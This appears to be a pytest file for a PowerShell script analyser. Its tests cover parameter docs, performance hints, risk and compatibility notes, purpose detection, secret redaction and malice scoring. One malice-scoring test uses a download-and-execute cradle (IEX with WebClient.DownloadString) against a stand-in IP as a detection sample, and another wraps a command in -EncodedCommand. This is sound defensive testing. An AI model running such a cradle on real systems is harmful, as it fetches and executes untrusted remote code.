"""The fields of an analysis on small scripts: what is said, and what is not."""

from __future__ import annotations

from typing import Any

import pytest

from pipeline.analysis.report import Rules, analyse

RULES = Rules()


def said(text: str, filename: str = "script.ps1") -> dict[str, Any]:
    return analyse(text, filename.rsplit(".", 1)[1], rules=RULES, filename=filename)


def test_parameters_are_documented_with_their_help() -> None:
    text = """<#
.SYNOPSIS
    Greets.
.PARAMETER Name
    Whom to greet.
#>
param([Parameter(Mandatory, Position = 0)][Alias('Who')][string] $Name, [ValidateSet('a', 'b')] $Kind = 'a', [switch] $Loud)
"""
    name, kind, loud = said(text)["parameter_docs"]["parameters"]
    assert (name["name"], name["type"], name["mandatory"], name["position"], name["aliases"], name["default"]) == (
        "Name", "System.String", True, 0, ["Who"], None,
    )
    assert name["help"].strip() == "Whom to greet."
    assert (kind["validValues"], kind["default"]) == (["a", "b"], "'a'")
    assert loud["type"] == "System.Management.Automation.SwitchParameter"


def test_commands_tell_their_module_their_arguments_and_their_page() -> None:
    (detail,) = said("gi C:\\x -Force")["command_details"]
    assert (detail["name"], detail["command"], detail["module"]) == ("gi", "Get-Item", "Microsoft.PowerShell.Management")
    assert {(each["name"], each["value"]) for each in detail["parameters"]} == {("Path", "C:\\x"), ("Force", None)}
    assert detail["link"] == "https://learn.microsoft.com/powershell/module/microsoft.powershell.management/get-item"


def test_a_command_that_nobody_knows_has_no_page() -> None:
    analysis = said("Get-Frobnication 1")
    (detail,) = analysis["command_details"]
    assert (detail["module"], detail["purpose"], detail["link"]) == (None, None, None)
    assert analysis["ms_docs_references"] == []


@pytest.mark.parametrize(("text", "code"), [
    ("$a = @()\nforeach ($x in 1..3) { $a += $x }", "array_grows_in_loop"),
    ("$s = ''\nwhile ($true) { $s += 'x' }", "string_grows_in_loop"),
    ("1..3 | ForEach-Object { Get-ADUser $_ }", "query_in_loop"),
    ("Get-ChildItem | Where-Object Name -like '*.log'", "filter_at_source"),
    ("for (;;) { Get-Item . | Out-Null }", "out_null_in_loop"),
])
def test_what_is_slow_is_told(text: str, code: str) -> None:
    assert [each["code"] for each in said(text)["performance_insights"]] == [code]


@pytest.mark.parametrize("text", [
    "$a = @()\n$a += 1", "$n = 0\nforeach ($x in 1..3) { $n += $x }", "Get-ADUser x",
    "foreach ($c in $all) { Get-CimInstance Win32_Bios -ComputerName $c }",
    "Get-ChildItem -Filter *.log | Where-Object Length",
])
def test_what_is_not_slow_is_not_told(text: str) -> None:
    assert said(text)["performance_insights"] == []


def test_risks_tell_what_and_where_and_whether_it_can_be_undone() -> None:
    risks = said("Remove-Item -Path $folder -Recurse\nStop-Service -Name Spooler\nGet-Date")["potential_risks"]
    assert [(each["action"], each["area"], each["target"], each["targetIsConstant"], each["reversible"]) for each in risks] == [
        ("deletes", "files", "$folder", False, False), ("stops", "services", "Spooler", True, True),
    ]


def test_the_summary_sorts_commands_by_what_they_touch() -> None:
    summary = said("Get-Content a.txt\nSet-Content b.txt 1\nRemove-Item HKLM:\\Software\\X\nInvoke-WebRequest https://example.com")["execution_summary"]
    assert [each["target"] for each in summary["reads"]] == ["a.txt"]
    assert [each["target"] for each in summary["writes"]] == ["b.txt"]
    assert summary["deletes"] == []
    assert [each["target"] for each in summary["registry"]] == ["HKLM:\\Software\\X"]
    assert [each["target"] for each in summary["network"]] == ["https://example.com"]
    assert summary["elevation"]["needed"] is True


@pytest.mark.parametrize(("text", "version"), [
    ("Get-Item .", "2.0"), ("$a ? 1 : 2", "7.0"), ("class C {}", "5.0"), ("$a ?? 1", "7.0"), ("#requires -Version 5.1\n1", "5.1"),
    ("1..2 | ForEach-Object -Parallel { $_ }", "7.0"), ("[regex]::new('a')", "5.0"), ("[pscustomobject] @{ a = 1 }", "3.0"), ("1 -in 1, 2", "3.0"),
    ("Compress-Archive a b", "5.1"), ("Invoke-RestMethod x", "3.0"), ("Test-Json '{}'", "6.1"),
])
def test_the_lowest_version_is_that_of_the_newest_construct(text: str, version: str) -> None:
    assert said(text)["compatibility_notes"][0]["version"] == version


def test_windows_is_named_where_it_is_needed() -> None:
    assert [each["kind"] for each in said("Get-ItemProperty HKLM:\\X")["compatibility_notes"]] == ["lowest_version", "windows_only"]
    assert [each["kind"] for each in said("Compress-Archive a b")["compatibility_notes"]][1:2] != ["windows_only"]


def test_modules_that_a_script_requires_are_told() -> None:
    notes = said("#Requires -Modules Az.Accounts, @{ ModuleName = 'Az.Billing'; ModuleVersion = '2.0' }\nGet-AzThing")["compatibility_notes"]
    assert [(note["module"], note["names"]) for note in notes if note["kind"] == "module"] == [
        ("Az.Accounts", []), ("Az.Billing", []), (None, ["Get-AzThing"]),
    ]


@pytest.mark.parametrize(("text", "area", "action"), [
    ("[System.IO.File]::ReadAllText($p)", "reads", "reads"), ("[IO.File]::WriteAllText('a', 'b')", "writes", "changes"),
    ("[System.IO.Directory]::Delete('x', $true)", "deletes", "deletes"), ("[Diagnostics.Process]::Start('calc')", "processes", "starts"),
    ("(New-Object Net.WebClient).DownloadString($u)", "network", "reads"), ("[Net.Sockets.TcpClient]::new()", "network", "reads"),
    ("[Microsoft.Win32.Registry]::SetValue('HKEY_CURRENT_USER\\A', 'b', 1)", "registry", "changes"), ("Import-Csv a.csv", "reads", "reads"),
    ("Invoke-RestMethod https://example.com -Method Post -Body x", "network", "sends"), ("Invoke-RestMethod https://example.com", "network", "reads"),
])
def test_calls_of_net_and_requests_count_for_what_they_do(text: str, area: str, action: str) -> None:
    assert [each["action"] for each in said(text)["execution_summary"][area]] == [action]


def test_what_cannot_be_read_is_not_judged_by_what_it_would_do() -> None:
    analysis = said("Remove-Item $x -Recurse\nif (")
    fields = ("execution_summary", "potential_risks", "performance_insights", "compatibility_notes", "code_complexity_metrics", "risk_score")
    assert {analysis["unknown"][field]["code"] for field in fields} == {"does_not_parse"}
    assert analysis["score_reasons"]["risk"] == []
    assert analysis["malice_score"] is not None


def test_purpose_is_the_synopsis_where_there_is_one() -> None:
    assert said("<#\n.SYNOPSIS\n  restarts the spooler\n#>\nparam()\n")["purpose"] == "Restarts the spooler."


def test_purpose_follows_from_behaviour_otherwise() -> None:
    assert said("Stop-Service Spooler\nStart-Service Spooler")["purpose"] == "Stops and starts services."


@pytest.mark.parametrize(("text", "purpose"), [
    ("#Requires -Version 5.1\n<#\n.SYNOPSIS\n    Counts files.\n#>\nGet-Item .", "Counts files."),
    ("# Copyright 2024 Ann. Licensed under the MIT license.\n\n# Counts the files of a folder. Slowly.\nGet-Item .", "Counts the files of a folder."),
    ("#!/usr/bin/env pwsh\n# ---------\n# Author: Ann\n# $x = 1\n# Moves old mail away!!!\nGet-Item .", "Moves old mail away!"),
    ("<#\n.SYNOPSIS\n    A brief description of the function\n#>\nparam()\n\nRemove-Item a\nGet-Item b", "Deletes and looks at files."),
    ("function A { <#\n.SYNOPSIS\nAdds.\n#>\n}", "Adds."),
    ("function A {}\nfunction B { Stop-Process 1 }", "Defines A and B; stops programs."),
    ("Invoke-WebRequest https://example.com", "Asks the network."),
    ("# Restarts what does not answer\nif (", "Restarts what does not answer."),
])
def test_purpose_is_what_somebody_said_of_the_script_if_anybody_did(text: str, purpose: str) -> None:
    assert said(text)["purpose"] == purpose


def test_a_manifest_says_what_its_module_is_for() -> None:
    assert said("@{ ModuleVersion = '1.0'; Description = 'Keeps lists.' }", "x.psd1")["purpose"] == "Keeps lists."


def test_no_behaviour_is_no_purpose_and_no_category() -> None:
    analysis = said("$a = 1\n$a")
    assert (analysis["purpose"], analysis["proposed_category"]) == (None, None)
    assert analysis["unknown"]["purpose"]["code"] == "no_behaviour"


def test_the_category_comes_with_its_certainty_and_reasons() -> None:
    proposed = said("Get-ADUser x\nGet-ADGroup y\nSet-ADUser z")["proposed_category"]
    assert proposed["name"] == "Active Directory"
    assert 0 < proposed["certainty"] <= 1
    assert "get-aduser" in proposed["reasons"]


@pytest.mark.parametrize(("text", "filename", "category"), [
    ("Export-Csv a.csv", "x.ps1", "Data Management"), ("Get-Thing", "Find-SlowRoute.ps1", "Network Management"),
    ("#Requires -Modules ActiveDirectory\nGet-Thing", "x.ps1", "Active Directory"),
    ("[System.Net.Dns]::GetHostName()", "x.ps1", "Network Management"), ("Get-Thing", "backup-mail.ps1", "Backup & Recovery"),
])
def test_names_types_and_required_modules_speak_for_a_category(text: str, filename: str, category: str) -> None:
    assert said(text, filename)["proposed_category"]["name"] == category


def test_a_category_that_is_not_certain_is_none_and_says_so() -> None:
    analysis = said("Get-ADUser a\nGet-AzVM b\nGet-Acl c\nRestore-Thing d")
    assert (analysis["proposed_category"], analysis["unknown"]["proposed_category"]["code"]) == (None, "uncertain")


def test_suggestions_come_gravest_first_and_carry_corrections() -> None:
    made = said("gci . \nConvertTo-SecureString 'x' -AsPlainText -Force")["suggestions"]
    assert made[0]["about"] == "PSAvoidUsingConvertToSecureStringWithPlainText"
    assert [each["rank"] for each in made] == list(range(1, len(made) + 1))
    (alias,) = [each for each in made if each["about"] == "PSAvoidUsingCmdletAliases"]
    assert alias["correction"]["text"] == "Get-ChildItem"


def test_secrets_are_told_nowhere() -> None:
    secret = "correct-horse-battery"
    analysis = said(f"$password = '{secret}'\nConnect-Thing -Password '{secret}'\nWrite-Host '{secret}'")
    assert analysis["security_issues"]
    assert secret not in str(analysis)


def test_an_attack_is_told_from_carelessness_with_reasons() -> None:
    attack, careless = said("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a')"), said("Write-Host 'hello'")
    assert attack["malice_score"] >= 50 > careless["malice_score"]
    assert attack["score_reasons"]["malice"]
    assert attack["risk_score"] > careless["risk_score"]
    assert careless["hygiene_score"] == 100


def test_layers_are_kept_with_how_they_were_wrapped() -> None:
    (layer,) = said("powershell -EncodedCommand RwBlAHQALQBEAGEAdABlAA==")["layers"]
    assert layer["text"] == "Get-Date"
    assert layer["how"]
